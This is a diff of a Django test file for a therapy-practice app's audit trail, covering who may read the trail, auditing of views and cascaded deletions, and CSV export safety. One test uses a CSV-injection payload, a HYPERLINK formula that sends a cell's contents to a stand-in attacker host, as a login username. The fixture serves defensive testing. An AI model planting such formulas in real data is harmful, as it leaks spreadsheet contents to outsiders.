@@ -1,18 +1,24 @@
 """The audit trail: one row per create, change, delete and view, and nothing can alter it."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
+from django.contrib.auth.models import Group
 from django.urls import reverse
 from django.utils import timezone
 
 from accounts.models import Team, User
 from audit.models import AuditEvent, AuditImmutableError
+from audit.readers import AUDIT_READERS
 from clients.models import Client, Rating, TherapySession
 from clients.recording import save_session
 from factors.models import Factor, Prompt
+from selfreport.models import Question, SelfReportLink, SelfReportRating
 from supervision.models import ReviewNote
 from tests.factories import TherapySessionFactory, UserFactory
+from tests.test_access import EXPECTED, make_world, url_for
 
 pytestmark = pytest.mark.django_db
 
@@ -31,7 +37,7 @@ def session_data(client, **overrides):
 def test_adding_and_editing_a_client_is_audited_without_free_text(owner_client, owner):
     data = {
         "label": "A.U.",
-        "intake_date": "2026-01-05",
+        "intake_date": (timezone.localdate() - timedelta(days=30)).isoformat(),
         "status": "active",
         "attachment_style": "unknown",
         "usual_setting": "online",
@@ -168,10 +174,16 @@ def test_audit_rows_cannot_be_changed_or_deleted(owner_client, their_client):
     assert AuditEvent.objects.filter(action="view").count() == 1
 
 
-def test_an_administrator_searches_pages_and_exports_the_trail(client, owner, their_client):
+def privacy_officer(**fields):
+    officer = UserFactory(username="officer", is_staff=True, **fields)
+    officer.groups.add(Group.objects.get(name=AUDIT_READERS))
+    return officer
+
+
+def test_a_privacy_officer_searches_pages_and_exports_the_trail(client, owner, their_client):
     for _ in range(3):
         TherapySessionFactory(client=their_client)
-    admin = UserFactory(username="adm", is_staff=True, is_superuser=True)
+    admin = privacy_officer()
     client.force_login(admin)
     changelist = reverse("admin:audit_auditevent_changelist")
     by_client = client.get(changelist, {"q": str(their_client.pk), "action__exact": "create"})
@@ -195,3 +207,176 @@ def test_writes_that_bypass_signals_are_audited_explicitly(their_client):
     [event] = events(action="update", object_type="clients.rating")
     assert event.changes == {"factor": "support", "score": [4, 1]}
     assert Rating.objects.get(session=session, factor=factor).score == 1
+
+
+# --- who reads the trail, and that reading it is audited ---------------------------------------
+
+
+@pytest.mark.parametrize("superuser", [True, False], ids=["superuser", "staff"])
+def test_only_the_privacy_officers_group_can_read_the_trail(client, their_client, superuser):
+    TherapySessionFactory(client=their_client)
+    admin = UserFactory(username="adm", is_staff=True, is_superuser=superuser)
+    client.force_login(admin)
+    row = AuditEvent.objects.filter(client_id=their_client.pk).first()
+    changelist = reverse("admin:audit_auditevent_changelist")
+    assert client.get(changelist).status_code == 403
+    assert client.get(reverse("admin:audit_auditevent_change", args=[row.pk])).status_code == 403
+    export = client.post(changelist, {"action": "export_csv", "_selected_action": [row.pk]})
+    assert export.status_code == 403
+    assert "Audit trail" not in client.get(reverse("admin:index")).content.decode()
+    assert AuditEvent.objects.filter(action="denied", actor=admin).count() == 3  # each refusal is on the record
+    admin.groups.add(Group.objects.get(name=AUDIT_READERS))
+    assert client.get(changelist).status_code == 200
+    assert "Audit trail" in client.get(reverse("admin:index")).content.decode()
+
+
+def test_the_group_alone_is_not_enough_without_staff_access(client):
+    officer = privacy_officer()
+    User.objects.filter(pk=officer.pk).update(is_staff=False)
+    client.force_login(officer)
+    assert client.get(reverse("admin:audit_auditevent_changelist")).status_code == 302  # to the admin login
+
+
+def test_reading_the_trail_is_itself_audited(client, their_client):
+    TherapySessionFactory(client=their_client)
+    officer = privacy_officer()
+    client.force_login(officer)
+    row = AuditEvent.objects.filter(client_id=their_client.pk).first()
+    client.get(reverse("admin:audit_auditevent_changelist"), {"q": str(their_client.pk)})
+    client.get(reverse("admin:audit_auditevent_change", args=[row.pk]))
+    listed, opened = events(actor=officer, action="view", object_type="audit.auditevent")
+    assert listed.changes["search"] == {"q": str(their_client.pk)}
+    assert listed.changes["rows"] > 0
+    assert opened.object_id == str(row.pk)
+
+
+def test_the_trail_export_neutralises_spreadsheet_formulas(client, db):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    client.post(reverse("login"), {"username": hostile, "password": "x"})
+    client.post(reverse("login"), {"username": "@SUM(1+1)", "password": "x"})
+    client.force_login(privacy_officer())
+    rows = AuditEvent.objects.filter(action="login_failed").values_list("pk", flat=True)
+    export = client.post(
+        reverse("admin:audit_auditevent_changelist"), {"action": "export_csv", "_selected_action": list(rows)}
+    )
+    cells = [cell for line in csv.reader(io.StringIO(export.content.decode())) for cell in line]
+    assert "'" + hostile in cells
+    assert "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+def test_granting_and_removing_the_privacy_officer_role_is_audited(db):
+    user = UserFactory(username="newofficer", is_staff=True)
+    group = Group.objects.get(name=AUDIT_READERS)
+    user.groups.add(group)
+    group.user_set.remove(user)
+    granted, removed = events(object_type="accounts.user", object_id=str(user.pk))
+    assert granted.changes == {"groups added": [AUDIT_READERS]}
+    assert removed.changes == {"groups removed": [AUDIT_READERS]}
+
+
+# --- deletions, cascades included ---------------------------------------------------------------
+
+
+def test_self_report_answers_removed_by_a_cascade_are_audited_with_what_they_were(their_client, owner):
+    session = TherapySessionFactory(client=their_client)
+    link, _ = SelfReportLink.create_for(session, owner)
+    question = Question.objects.get(key="openness", active=True)
+    answer = SelfReportRating.objects.create(link=link, question=question, score=2)
+    Client.objects.filter(pk=their_client.pk).delete()
+    deleted = {(e.object_type, e.object_id): e for e in events(action="delete")}
+    gone = deleted[("selfreport.selfreportrating", str(answer.pk))]
+    assert gone.client_id == their_client.pk
+    assert gone.changes["score"] == [2, None]
+    assert ("selfreport.selfreportlink", str(link.pk)) in deleted
+    assert ("clients.therapysession", str(session.pk)) in deleted
+    assert deleted[("clients.client", str(their_client.pk))].changes["label"] == ["J.M.", None]
+    ratings = [e for e in deleted.values() if e.object_type == "clients.rating"]
+    assert len(ratings) == 12
+    assert all(e.client_id == their_client.pk for e in ratings)
+
+
+def test_a_deleted_rows_free_text_is_only_marked_as_changed(their_client):
+    session = TherapySessionFactory(client=their_client, note="Private session note")
+    session.delete()
+    [gone] = events(action="delete", object_type="clients.therapysession")
+    assert gone.changes["note"] == "(changed)"
+    assert "Private" not in str(AuditEvent.objects.values_list("changes", flat=True)[::1])
+
+
+# --- every page that shows a client's data is audited -------------------------------------------
+
+# Pages that show no client's data, with the reason; every other page is walked below.
+NO_CLIENT_DATA = {
+    "login": "the login form",
+    "logout": "logs out",
+    "logged_out": "a message",
+    "fhir_questionnaire": "the instrument's twelve questions, no answers",
+    "client_create": "an empty form",
+    "flag_mark": "a one-click mark that redirects (the mark itself is audited as a FlagReview)",
+    "guidance": "general guidance, no client",
+    "prompt_library": "the prompt library, no client",
+}
+# Query strings that make a page show a client (the session form for a chosen client).
+QUERY = {"session_create": lambda world: {"client": world["client"].pk}}
+
+
+def about_the_client(event, client_pk):
+    return event.client_id == client_pk or client_pk in (event.changes or {}).get("clients", [])
+
+
+def page_requests():
+    """(name, method, role) for every page some user is shown, from the access matrix."""
+    for name, (_, rules) in sorted(EXPECTED.items()):
+        if name in NO_CLIENT_DATA:
+            continue
+        for method, index in (("get", 0), ("post", 1)):
+            if method == "post" and any(rule[0] == 200 for rule in rules.values()):
+                continue  # a page with a GET is walked by its GET; its POST re-renders are audited the same way
+            role = next((r for r in ("anonymous", "owner", "own_supervisor") if rules[r][index] == 200), None)
+            if role:
+                yield name, method, role
+
+
+@pytest.mark.parametrize(("name", "method", "role"), list(page_requests()))
+def test_every_page_that_shows_a_client_is_audited(client, name, method, role):
+    world = make_world()
+    url = url_for(name, world)
+    if name == "self_report":
+        _link, token = SelfReportLink.create_for(world["session"], world["users"]["owner"])
+        url = reverse(name, args=[token])
+    if role != "anonymous":
+        client.force_login(world["users"][role])
+    before = AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first()
+    query = QUERY.get(name, lambda world: {})(world)
+    response = client.get(url, query) if method == "get" else client.post(url)
+    assert response.status_code == 200
+    new = AuditEvent.objects.filter(pk__gt=before).exclude(action="login")
+    assert any(about_the_client(e, world["client"].pk) for e in new), f"{method.upper()} {name} is not audited"
+
+
+def test_every_url_is_either_walked_or_shows_no_client_data():
+    walked = {name for name, _, _ in page_requests()}
+    post_only = {"prompt_trial", "review_notes_read"}  # they redirect; their writes are audited above
+    assert walked | set(NO_CLIENT_DATA) | post_only == set(EXPECTED)
+
+
+def test_opening_the_edit_pages_is_audited_as_a_view(owner_client, owner, their_client):
+    session = TherapySessionFactory(client=their_client)
+    owner_client.get(reverse("client_edit", args=[their_client.pk]))
+    owner_client.get(reverse("session_edit", args=[session.pk]))
+    views = events(action="view", actor=owner)
+    assert [(e.object_type, e.client_id, e.changes) for e in views] == [
+        ("clients.client", their_client.pk, {"page": "edit"}),
+        ("clients.therapysession", their_client.pk, {"page": "edit"}),
+    ]
+
+
+def test_the_admin_client_pages_are_audited(client, their_client):
+    TherapySessionFactory(client=their_client)
+    admin = UserFactory(username="adm", role=User.Role.ADMINISTRATOR, is_staff=True, is_superuser=True)
+    client.force_login(admin)
+    client.get(reverse("admin:clients_client_change", args=[their_client.pk]))
+    client.get(reverse("admin:clients_client_delete", args=[their_client.pk]))
+    pages = [e.changes["admin"] for e in events(action="view", client_id=their_client.pk, actor=admin)]
+    assert pages == ["client record", "deletion confirmation"]
